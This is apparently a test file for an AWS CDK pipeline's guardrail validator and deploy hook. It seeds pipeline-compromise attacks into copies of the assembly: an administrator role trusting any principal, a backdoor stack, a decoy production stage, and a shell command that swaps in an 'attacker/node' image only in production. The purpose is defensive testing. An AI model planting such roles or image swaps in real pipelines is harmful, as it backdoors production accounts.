// Issue 19's attacks whose mechanism is gone (the self-mutation gate, the rollback to an artifact the
// Synth role overwrote, the `executable` image asset, the asset roles' StartBuild), tried against
// the real synthesized assembly (test/support/app.ts) and copies of it: what the commit can still
// do in the pipeline account, and that production admits nothing of it unless the validator
// attested it. The rehearsal's guardrail flow runs the validator (enforcement/validator/validate.ts)
// and the hook (enforcement/hook/decide.ts) themselves; the IAM step's engine evaluates the roles.
//
// How each was checked against the old code (main at dbe5c9d, in a temporary worktree, its own
// synth, its own `npm run guardrail`): see each test's comment. The old mechanisms (the gate, Sign
// and verify) no longer exist here, so these tests cannot run there; the comments give the old
// code's answer on the same input.
import { cpSync, readdirSync, readFileSync, renameSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { listStacks } from '../pipeline/cloud-assembly';
import type { ActionResult } from '../pipeline/rehearsal/actions';
import { rehearseAll } from '../pipeline/rehearsal/cli';
import type { GuardrailRehearsal } from '../pipeline/rehearsal/guardrail';
import { decideOperation, deployedValidator } from '../pipeline/rehearsal/guardrail-flow';
import { roleContext } from '../pipeline/rehearsal/iam/calls';
import { evaluateCall } from '../pipeline/rehearsal/iam/evaluate';
import { buildWorld, releaseCalls } from '../pipeline/rehearsal/iam/index';
import { readPipeline } from '../pipeline/rehearsal/model';
import { REPO_ROOT, sharedAssembly } from './support/app';
import { assemblyCopies, editJson } from './support/assembly-copies';
import { shippedRehearsal, toolAnswers as cache, validations } from './support/validations';

let assembly: string;
let base: { results: ActionResult[]; guardrail: GuardrailRehearsal };
// The attacks are seeded into copies: the shared assembly is read only.
const copies = assemblyCopies('attacks-', () => assembly);
const copyEdited = copies.copyEdited;

beforeAll(async () => {
  assembly = sharedAssembly();
  base = await shippedRehearsal();
});
afterAll(() => copies.dispose());

const lineOf = (results: ActionResult[], name: string) => results.find((r) => `${r.action.stage}/${r.action.name}` === name)!;
const PRODUCTION_DEPLOYS = ['Production/EdgeWaf.Deploy', 'Production/EdgeWaf.Prepare', 'Production/Tiers.Deploy', 'Production/Tiers.Prepare'];
const productionTiers = (dir: string) => listStacks(dir).find((s) => s.displayName === 'Pipeline/Production/Tiers')!;
const protectedStacks = () => deployedValidator(readPipeline(assembly), '333333333333', 'eu-west-1', 'br-fagq2-guardrail-validator').protectedStacks;

/** The administrator role trusting anyone: what an attacker deploys into production. */
const breakGlass = {
  Type: 'AWS::IAM::Role',
  Properties: {
    AssumeRolePolicyDocument: { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: { AWS: '*' }, Action: 'sts:AssumeRole' }] },
    ManagedPolicyArns: ['arn:aws:iam::aws:policy/AdministratorAccess'],
  },
};
const backdoorTemplate = JSON.stringify({ Resources: { BreakGlass: breakGlass } });

describe('self-mutation: whatever SelfMutate deploys, production admits only attested templates', () => {
  // Old code (dbe5c9d): `guardrail gate --deployed cdk.out/Pipeline.template.json --synthesized <copy>`
  // printed PASS (exit 0) on each of these four copies of its own synth: a `Backdoor` stack in
  // production that the Pipeline artifact depends on, with a cdk.json naming a CLI plugin in the
  // assembly; the Pipeline artifact's stackName moved off `br-fagq2-pipeline` to a decoy artifact
  // holding the clean template while the real artifact is changed; Pipeline.assets.json publishing
  // a changed template while templateFile stays clean. Sign then signed whatever followed.
  it('a stack dependency deploying another stack into production, a cdk.json plugin in the assembly, a stack name off its artifact id, a published template other than templateFile: the release still deploys only the attested production templates, and the rest is refused', async () => {
    const dir = copyEdited('self-mutation', (d) => {
      writeFileSync(join(d, 'Backdoor.template.json'), backdoorTemplate);
      // The published template of the pipeline stack differs from its templateFile.
      const pipelineTemplate = JSON.parse(readFileSync(join(d, 'Pipeline.template.json'), 'utf8'));
      pipelineTemplate.Resources.Tampered = { Type: 'AWS::SNS::Topic' };
      writeFileSync(join(d, 'Published.template.json'), JSON.stringify(pipelineTemplate));
      editJson(join(d, 'Pipeline.assets.json'), (m) => {
        const entry = Object.values<any>(m.files).find((f) => f.source.path === 'Pipeline.template.json');
        expect(entry).toBeDefined();
        entry.source.path = 'Published.template.json';
      });
      editJson(join(d, 'manifest.json'), (m) => {
        m.artifacts.Backdoor = { type: 'aws:cloudformation:stack', environment: 'aws://333333333333/eu-west-1', properties: { templateFile: 'Backdoor.template.json', stackName: 'Production-Tiers' }, displayName: 'Backdoor' };
        m.artifacts.Pipeline.dependencies = [...(m.artifacts.Pipeline.dependencies ?? []), 'Backdoor'];
        m.artifacts.Pipeline.properties.stackName = 'br-fagq2-pipeline-renamed';
      });
      writeFileSync(join(d, 'cdk.json'), JSON.stringify({ app: '.', plugin: ['./plugin.js'] }));
      writeFileSync(join(d, 'plugin.js'), 'module.exports = { version: "1", init() { /* runs with the execution role of the pipeline account */ } };');
    });
    const { results, guardrail } = await rehearseAll({ assemblyDir: dir, repoRoot: REPO_ROOT, cache, validations });
    // The production stage's templates are unchanged: the validator's answer is the clean release's, and the hook admits them.
    expect(guardrail.validation).toBe(base.guardrail.validation);
    for (const name of PRODUCTION_DEPLOYS) expect(lineOf(results, name).status, name).toBe('RAN');
    const run = guardrail.validation!;
    // What SelfMutate deploys besides, into production, under any stack name (here the real one's): refused.
    for (const stackName of ['Production-Tiers', 'Backdoor', 'CDKToolkit']) {
      for (const target of ['CHANGE_SET', 'STACK'] as const) {
        const response = await decideOperation({ account: '333333333333', region: 'eu-west-1', stackName, template: backdoorTemplate, target }, run, protectedStacks());
        expect(response.hookStatus, `${stackName} ${target}`).toBe('FAILED');
        expect(response.message).toMatch(new RegExp(`stack ${stackName} \\(account 333333333333, eu-west-1\\), template sha256 [0-9a-f]{64}: no attestation`));
      }
    }
    // A production template published other than the templateFile the validator saw: the hook hashes what it receives.
    const validated = run.view(readFileSync(productionTiers(dir).templateFile, 'utf8'));
    const published = JSON.stringify({ ...JSON.parse(validated), Resources: { ...JSON.parse(validated).Resources, BreakGlass: breakGlass } });
    const refused = await decideOperation({ account: '333333333333', region: 'eu-west-1', stackName: 'Production-Tiers', template: published, target: 'STACK' }, run, protectedStacks());
    expect(refused).toMatchObject({ hookStatus: 'FAILED', message: expect.stringContaining('no attestation') });
    const admitted = await decideOperation({ account: '333333333333', region: 'eu-west-1', stackName: 'Production-Tiers', template: validated, target: 'STACK' }, run, protectedStacks());
    expect(admitted.hookStatus).toBe('SUCCESS');
  });

  // Old code (dbe5c9d): the gate needed an approval whenever the synthesized pipeline template
  // differed from the deployed one beyond asset hashes (APPROVED_PIPELINE_DIGESTS); the issue's
  // finding is that a service release changes the asset projects' buildspecs. Checked there: a
  // changed image hash in the asset buildspecs alone printed PASS (the gate masks asset hashes), so
  // the approval came with changes of the projects beyond the hash. Now there is no gate to approve.
  it('every asset change needs no approval: a release whose image changes (new asset hash in both stages and in the asset projects) passes the validator and the hooks, and the pipeline holds no approval by default', async () => {
    const stages = JSON.parse(readFileSync(join(assembly, 'Pipeline.template.json'), 'utf8'));
    const pipeline = Object.values<any>(stages.Resources).find((r) => r.Type === 'AWS::CodePipeline::Pipeline')!;
    expect(pipeline.Properties.Stages.flatMap((s: any) => s.Actions).filter((a: any) => a.ActionTypeId.Provider === 'Manual')).toEqual([]);
    expect(JSON.stringify(pipeline)).not.toMatch(/guardrail -- gate|APPROVED_PIPELINE_DIGESTS/);

    const manifest = JSON.parse(readFileSync(join(production(assembly), readdirSync(production(assembly)).find((f) => /^PipelineProductionTiers.*\.assets\.json$/.test(f))!), 'utf8'));
    const [oldHash] = Object.keys(manifest.dockerImages);
    const newHash = 'f'.repeat(64);
    const dir = copyEdited('asset-change', (d) => {
      renameSync(join(d, `asset.${oldHash}`), join(d, `asset.${newHash}`));
      for (const file of ['Pipeline.template.json', 'Pipeline.assets.json', ...['Staging', 'Production'].flatMap((s) => readdirSync(join(d, `assembly-Pipeline-${s}`)).filter((f) => f.endsWith('.json')).map((f) => join(`assembly-Pipeline-${s}`, f)))]) {
        const path = join(d, file);
        writeFileSync(path, readFileSync(path, 'utf8').replaceAll(oldHash!, newHash));
      }
      expect(readFileSync(join(d, 'Pipeline.template.json'), 'utf8')).toContain(newHash);
    });
    const { results, guardrail } = await rehearseAll({ assemblyDir: dir, repoRoot: REPO_ROOT, cache, validations });
    expect(guardrail.validation).not.toBe(base.guardrail.validation);
    expect(guardrail.validation!.response.passed).toBe(true);
    expect(results.filter((r) => r.status === 'FAIL').map((r) => `${r.action.stage}/${r.action.name}`)).toEqual([]);
    for (const name of PRODUCTION_DEPLOYS) expect(lineOf(results, name).status, name).toBe('RAN');
  });
});

const production = (dir: string) => join(dir, 'assembly-Pipeline-Production');

describe('a stage rollback redeploys an earlier execution\'s artifact: admitted only as attested, within the window', () => {
  // Old code (dbe5c9d): nothing between the artifact bucket and production. The Production stage's
  // actions deploy the Synth output's templates (CHANGE_SET_REPLACE then EXECUTE) and the stage's
  // rollback redeploys the last successful execution's artifact as the bucket holds it; Sign and
  // verify ran before, on the execution's own way, never on a rollback. Checked in its synthesized
  // Pipeline.template.json: the Production stage holds its CloudFormation Prepare/Deploy actions
  // and ProductionDeployChecks after them, nothing that checks a template.
  it('refuses the earlier release\'s template changed after its validation; admits it untampered until its attestation expires, then refuses it', async () => {
    const run = base.guardrail.validation!;
    const validityDays = deployedValidator(readPipeline(assembly), '333333333333', 'eu-west-1', 'br-fagq2-guardrail-validator').config.validityDays;
    expect(validityDays).toBeGreaterThan(1);
    const day = 86_400_000;
    const atDay = (n: number) => new Date(run.at.getTime() + n * day);
    const earlier = run.view(readFileSync(productionTiers(assembly).templateFile, 'utf8'));
    // The artifact as the Synth role of a later execution overwrote it: an administrator role added.
    const tampered = JSON.stringify({ ...JSON.parse(earlier), Resources: { ...JSON.parse(earlier).Resources, BreakGlass: breakGlass } });
    const op = (template: string, target: 'CHANGE_SET' | 'STACK') => ({ account: '333333333333', region: 'eu-west-1', stackName: 'Production-Tiers', template, target });
    for (const target of ['CHANGE_SET', 'STACK'] as const) {
      expect((await decideOperation(op(earlier, target), run, protectedStacks(), atDay(validityDays - 1))).hookStatus).toBe('SUCCESS');
      expect(await decideOperation(op(tampered, target), run, protectedStacks(), atDay(validityDays - 1))).toMatchObject({ hookStatus: 'FAILED', message: expect.stringContaining('no attestation') });
      expect(await decideOperation(op(earlier, target), run, protectedStacks(), atDay(validityDays + 1))).toMatchObject({ hookStatus: 'FAILED', message: expect.stringMatching(/expired/) });
    }
  });
});

describe('an image asset built by a command (`executable`)', () => {
  // Old code (dbe5c9d): both stages' Tiers asset manifests given the same `executable` source,
  // `sh -c 'case "$AWS_ACCOUNT_ID" in 333333333333) B=attacker/node;; *) B=node:22-alpine;; esac;
  // docker build -q --build-arg NODE_IMAGE=$B ../asset.<hash>'`, asset ids and tags unchanged:
  // `guardrail sign` then `guardrail verify` on its synth printed "all 14 checks passed".
  it('that gives production another image than staging\'s: the validator refuses (production\'s digests are not the ones staging runs), nothing is attested, no production deploy is admitted', async () => {
    const dir = copyEdited('executable-image', (d) => {
      for (const stage of ['Staging', 'Production']) {
        const nested = join(d, `assembly-Pipeline-${stage}`);
        editJson(join(nested, readdirSync(nested).find((f) => new RegExp(`^Pipeline${stage}Tiers.*\\.assets\\.json$`).test(f))!), (m) => {
          for (const [hash, image] of Object.entries<any>(m.dockerImages)) {
            image.source = { executable: ['sh', '-c', `case "$AWS_ACCOUNT_ID" in 333333333333) B=attacker/node;; *) B=node:22-alpine;; esac; docker build -q --build-arg NODE_IMAGE=$B ../asset.${hash}`] };
          }
        });
      }
    });
    const { results, guardrail } = await rehearseAll({ assemblyDir: dir, repoRoot: REPO_ROOT, cache, validations });
    const run = guardrail.validation!;
    expect(run.response.passed).toBe(false);
    expect(run.store.size).toBe(0);
    expect(run.response.checks.filter((c) => c.status === 'FAIL').map((c) => c.name)).toEqual(['images']);
    expect(run.response.checks.find((c) => c.name === 'images')!.detail).toMatch(/staging's \w+ runs sha256:[0-9a-f]{64}/);
    for (const name of ['Guardrail/GuardrailValidation', ...PRODUCTION_DEPLOYS]) expect(lineOf(results, name).status, name).toBe('FAIL');
  });
});

describe('the asset roles start only their own CodeBuild projects (IAM engine)', () => {
  // Old code (dbe5c9d): its synthesized Pipeline.template.json gives PipelineAssetsFileRoleDefaultPolicy
  // and PipelineAssetsDockerRoleDefaultPolicy `codebuild:StartBuild` on Resource "*" (checked), the
  // seeded copy below: the engine allows the start of any project, Synth's and SelfMutate's included.
  const assetRoles = (world: ReturnType<typeof buildWorld>) => [...world.roles.keys()].filter((arn) => /-PipelineAssets(File|Docker)Ro/.test(arn)) // physical names: the logical id, cut;

  async function starts(dir: string) {
    const model = readPipeline(dir);
    const world = buildWorld(model, REPO_ROOT);
    const calls = releaseCalls(model, world, { repoRoot: REPO_ROOT }).filter((c) => c.permission === 'codebuild:StartBuild');
    const projects = [...new Set(calls.map((c) => c.resource))];
    const own = new Set(calls.filter((c) => c.action.startsWith('Assets/')).map((c) => c.resource));
    const roles = assetRoles(world);
    const results: Array<{ role: string; project: string; own: boolean; result: string }> = [];
    for (const role of roles) {
      for (const project of projects) {
        const r = await evaluateCall({ ...calls[0]!, action: 'attack/StartBuild', principal: role, resource: project, context: roleContext(role) }, world, []);
        results.push({ role, project, own: own.has(project), result: r.result });
      }
    }
    return { roles, projects, results };
  }

  it('as synthesized: an asset role may not start the Synth, SelfMutate or any other project; its own ones it may', async () => {
    const { roles, projects, results } = await starts(assembly);
    expect(roles.length).toBe(2);
    expect(projects.length).toBeGreaterThanOrEqual(6);
    const others = results.filter((r) => !r.own);
    expect(others.length).toBeGreaterThan(0);
    for (const r of others) expect(r.result, `${r.role} → ${r.project}`).toBe('ImplicitlyDenied');
    // Each asset role may start its own projects (the pipeline role starts them; the role itself needs no more).
    expect(results.filter((r) => r.own && r.result === 'Allowed').length).toBeGreaterThan(0);
  });

  it('seeded: the asset roles\' StartBuild on "*" (the old code\'s policy) lets them start every project', async () => {
    const dir = copyEdited('startbuild-star', (d) => editJson(join(d, 'Pipeline.template.json'), (t) => {
      for (const [id, r] of Object.entries<any>(t.Resources)) {
        if (r.Type !== 'AWS::IAM::Policy' || !/^PipelineAssets(File|Docker)Role/.test(id)) continue;
        for (const st of r.Properties.PolicyDocument.Statement) if ([st.Action].flat().includes('codebuild:StartBuild')) st.Resource = '*';
      }
    }));
    const { results } = await starts(dir);
    const others = results.filter((r) => !r.own);
    expect(others.length).toBeGreaterThan(0);
    for (const r of others) expect(r.result, `${r.role} → ${r.project}`).toBe('Allowed');
  });
});

describe('a decoy Production stage beside the real one, relabelled (verify audited the commit\'s description)', () => {
  // Old code (dbe5c9d), on this very edit of its own synth (the real nested assembly copied to
  // assembly-Pipeline-Prod, labelled Pipeline/Prod, its Tiers template given BreakGlass, the
  // Pipeline template's deploy actions pointed at it; assembly-Pipeline-Production left clean as the
  // decoy): `guardrail sign` then `guardrail verify` printed "all 14 checks passed".
  it('the validator is asked about the decoy and passes it; the hook refuses the template the deploy action names', async () => {
    const dir = copyEdited('decoy-assembly', (d) => {
      cpSync(production(d), join(d, 'assembly-Pipeline-Prod'), { recursive: true });
      const real = join(d, 'assembly-Pipeline-Prod');
      editJson(join(real, readdirSync(real).find((f) => /^PipelineProductionTiers.*\.template\.json$/.test(f))!), (t) => (t.Resources.BreakGlass = breakGlass));
      editJson(join(real, 'manifest.json'), (m) => {
        for (const a of Object.values<any>(m.artifacts)) if (typeof a.displayName === 'string') a.displayName = a.displayName.replace('Pipeline/Production', 'Pipeline/Prod');
      });
      editJson(join(d, 'manifest.json'), (m) => {
        const decoy = m.artifacts['assembly-Pipeline-Production'];
        m.artifacts['assembly-Pipeline-Prod'] = { ...decoy, properties: { ...decoy.properties, directoryName: 'assembly-Pipeline-Prod', displayName: 'Pipeline/Prod' } };
      });
      const pipelineFile = join(d, 'Pipeline.template.json');
      const text = readFileSync(pipelineFile, 'utf8');
      expect(text).toContain('assembly-Pipeline-Production/');
      writeFileSync(pipelineFile, text.replaceAll('assembly-Pipeline-Production/', 'assembly-Pipeline-Prod/'));
    });
    const { results, guardrail } = await rehearseAll({ assemblyDir: dir, repoRoot: REPO_ROOT, cache, validations });
    expect(guardrail.validation).toBe(base.guardrail.validation); // the decoy is the clean release
    expect(lineOf(results, 'Guardrail/GuardrailValidation').status).toBe('RAN');
    expect(lineOf(results, 'Production/Tiers.Prepare').action.deploys!.templateFile).toContain('assembly-Pipeline-Prod/');
    for (const name of ['Production/Tiers.Prepare', 'Production/Tiers.Deploy']) {
      expect(lineOf(results, name)).toMatchObject({ status: 'FAIL', detail: expect.stringMatching(/guardrail hook: stack Production-Tiers \(account 333333333333, eu-west-1\), template sha256 [0-9a-f]{64}: no attestation/) });
    }
    for (const name of ['Production/EdgeWaf.Prepare', 'Production/EdgeWaf.Deploy']) expect(lineOf(results, name).status, name).toBe('RAN');
  });
});

describe('docs/enforcement.md', () => {
  it('names, for each attack of issue 19, tests that exist (file › describe › test, "…" shortening a title)', () => {
    const doc = readFileSync(join(REPO_ROOT, 'docs/enforcement.md'), 'utf8');
    const table = doc.slice(doc.indexOf('**The attacks of issue 19, now**'), doc.indexOf('**What stays unproven until a real account:**'));
    const rows = table.split('\n').filter((l) => l.startsWith('| ') && !l.startsWith('| attack') && !l.startsWith('| ---'));
    expect(rows.length).toBe(12);
    const unescape = (text: string) => text.replaceAll("\\'", "'");
    for (const row of rows) {
      const cell = row.slice(0, -2).split(' | ').pop()!;
      let file = '';
      for (const part of cell.split('; ')) {
        const m = /^(?:`([^`]+)` )?(.*)$/.exec(part)!;
        if (m[1]) file = m[1];
        expect(file, row).toMatch(/^test\/.*\.test\.ts$/);
        const source = unescape(readFileSync(join(REPO_ROOT, file), 'utf8'));
        const titles = m[2]!.split('›').map((t) => t.replace(/….*$/, '').trim().replace(/[,:;]$/, '')).filter(Boolean);
        expect(titles.length, part).toBeGreaterThan(0);
        for (const title of titles) expect(source, `${file}: ${title}`).toContain(title);
      }
    }
  });
});
